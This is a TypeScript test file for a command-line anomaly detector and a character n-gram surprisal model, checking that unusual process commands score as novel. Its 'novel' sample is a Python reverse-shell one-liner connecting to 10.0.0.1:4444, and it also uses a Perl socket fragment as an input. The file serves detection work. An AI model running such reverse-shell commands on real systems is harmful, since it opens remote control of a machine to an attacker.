import assert from 'node:assert/strict';
import { test } from 'node:test';
import { seededRandom } from '@vigil/common';
import { runProfilerConformance, event } from '../conformance.case.test.js';
import { createCommandModelProfiler } from './command-model.js';
import { CharNgramModel } from './char-ngram.js';

const words = ['build', 'test', 'deploy', 'status', 'log', 'diff', 'push', 'pull', 'fetch', 'clean', 'install', 'lint', 'format', 'check', 'serve', 'watch', 'bench', 'docs'];
const tools = ['git', 'make', 'npm', 'cargo', 'go', 'docker', 'kubectl', 'terraform'];
const run = (host: string, time: number, args: string[]) =>
  event(host, time, { 'event.category': 'process', 'event.action': 'start', 'process.executable': `/usr/bin/${args[0]}`, 'process.args': args, 'process.pid': 8 });

runProfilerConformance({
  name: 'command-model',
  create: () => createCommandModelProfiler({ minTemplates: 50 }),
  samples: {
    normal: (host, time, i) => [run(host, time, [tools[i % tools.length]!, words[(i * 7) % words.length]!, `--${words[(i * 3) % words.length]}`, words[(i * 5 + 1) % words.length]!])],
    novel: (host, time) => [run(host, time, ['python3', '-c', 'import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect(("10.0.0.1",4444));os.dup2(s.fileno(),0)'])],
  },
});

test('the character model finds text unlike what it learned more surprising', () => {
  const model = new CharNgramModel({ order: 4 });
  const random = seededRandom(7);
  for (let i = 0; i < 2000; i++) model.learn(`git ${words[Math.floor(random() * words.length)]} --${words[Math.floor(random() * words.length)]}`);
  assert.ok(model.surprisal('git status --check') < 2, String(model.surprisal('git status --check')));
  assert.ok(model.surprisal('perl -e \'use Socket;$i="10.0.0.1"\'') > 5);
  const copy = CharNgramModel.fromJSON(JSON.parse(JSON.stringify(model)));
  assert.equal(copy.surprisal('git push --lint'), model.surprisal('git push --lint'));
  assert.doesNotThrow(() => model.surprisal('\u0000\ud800😀'.repeat(400)));
});
